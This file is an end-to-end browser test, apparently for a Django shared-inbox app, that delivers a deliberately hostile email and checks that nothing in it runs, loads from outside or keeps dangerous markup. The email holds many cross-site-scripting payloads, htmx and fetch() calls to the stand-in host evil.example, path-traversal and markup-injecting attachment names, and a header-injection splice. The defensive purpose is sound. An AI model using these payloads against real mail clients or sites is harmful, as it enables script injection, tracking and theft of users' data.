"""Mail from outside that is made to hurt: a colleague's browser opens it, and nothing of it runs or calls anybody."""

from collections.abc import Callable
from email.message import EmailMessage

from django.utils import timezone
from playwright.sync_api import Page, expect

from tests.inbox.inbound.post import Post, post  # noqa: F401  (a fixture)

EVIL = "evil.example"
RUN = "document.documentElement.dataset.hurt=1"
HTML = f"""<html><head><base href="https://{EVIL}/"><meta http-equiv="refresh" content="0;url=https://{EVIL}/gone">
<link rel="stylesheet" href="https://{EVIL}/style.css"><style>@import url(https://{EVIL}/other.css); body {{ display: none }}</style></head>
<body background="https://{EVIL}/background.png" onload="{RUN}">
<p>Please look at <a href="javascript:{RUN}">my order</a> or <a href="https://{EVIL}/" onclick="{RUN}">that</a>.</p>
<script>{RUN}</script><script src="https://{EVIL}/script.js"></script><img src="https://{EVIL}/seen.gif"><img src=x onerror="{RUN}">
<p style="background: url(https://{EVIL}/p.png); position: fixed; inset: 0; z-index: 9999">Covers</p>
<svg><script>{RUN}</script><animate onbegin="{RUN}" attributeName="x" dur="1s"/><image href="https://{EVIL}/svg.png"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">
<noscript><p title="</noscript><img src=x onerror='{RUN}'>"></noscript>
<iframe src="https://{EVIL}/frame" srcdoc="<script>parent.{RUN}</script>"></iframe>
<form action="https://{EVIL}/take" id="live" hx-post="https://{EVIL}/take" hx-trigger="load">
<input name="csrfmiddlewaretoken" autofocus onfocus="{RUN}"></form>
<div hx-get="https://{EVIL}/htmx" hx-trigger="load" data-live id="thread">htmx</div><video src="https://{EVIL}/video" autoplay poster="https://{EVIL}/poster"></video>
<object data="https://{EVIL}/object"></object><embed src="https://{EVIL}/embed"><details ontoggle="{RUN}" open>open</details>
</body></html>"""
FILE = f"<html><script>{RUN}; fetch('https://{EVIL}/file')</script></html>"
FILES = ("invoice.html", 'x"><img src=x onerror=alert(1)>.svg', "../../etc/passwd")


def hostile_mail() -> bytes:
    made = EmailMessage()
    made["From"] = f'"<img src=x onerror={RUN}>" <eve@{EVIL}>'
    made["Subject"] = f"Re: <script>{RUN}</script>"
    made["Message-ID"] = '<"onload=x"@evil.example>'
    made.set_content(HTML, subtype="html")
    for name in FILES:
        made.add_attachment(FILE.encode(), maintype="text", subtype="html", filename=name)
    return bytes(made).replace(b"Subject: ", b"Reply-To: a@b\r\n\tX-Injected: <script>\r\nSubject: ", 1)


def nothing_ran(page: Page, asked: list[str], origin: str) -> None:
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.documentElement.dataset.hurt ?? ''") == ""
    assert [url for url in asked if not url.startswith(origin)] == []
    letter = page.locator("#thread .letter")
    expect(letter).to_contain_text("Please look at my order or that.")
    schemes = letter.locator("a").evaluate_all("found => found.map(one => one.protocol)")
    assert set(schemes) <= {":", "https:"}, schemes
    traces = "img, script, style, iframe, object, embed, form, input, svg, video, details, [id], [style], [class]"
    assert letter.locator(traces).count() == 0
    names = letter.evaluate("one => [...one.querySelectorAll('*')].flatMap(each => each.getAttributeNames())")
    assert set(names) <= {"href", "target", "rel"}, names


def test_mail_that_is_made_to_hurt_runs_nothing_and_calls_nobody_in_a_colleagues_browser(
    page: Page,
    sign_in_browser: Callable[[Page, object], None],
    post: Post,  # noqa: F811
) -> None:
    """While the page is open, when it is loaded anew, and of its files."""
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"a dialog: {dialog.message}"))
    page.context.on("page", lambda other: asked.append(f"a window: {other.url}"))
    sign_in_browser(page, post.desk.alice.membership.user)
    page.goto(post.conversation.get_absolute_url())
    origin = page.url.partition("/o/")[0] + "/"
    expect(page.locator("#live")).to_be_attached()

    post.brings(hostile_mail())
    post.read(timezone.now())
    page.evaluate("htmx.trigger('#live', 'look')")
    expect(page.locator("#thread .message.theirs")).to_be_visible()
    nothing_ran(page, asked, origin)
    page.reload()
    nothing_ran(page, asked, origin)

    links = page.locator("#thread .message.theirs").get_by_role("list", name="Files").get_by_role("link")
    expect(links).to_have_count(len(FILES))
    for number in range(len(FILES)):
        with page.expect_download() as saved:
            links.nth(number).click()
        assert "/" not in saved.value.suggested_filename
        address = saved.value.url
        answer = page.request.get(address)
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
        assert answer.headers["content-type"] == "application/octet-stream"
    nothing_ran(page, asked, origin)
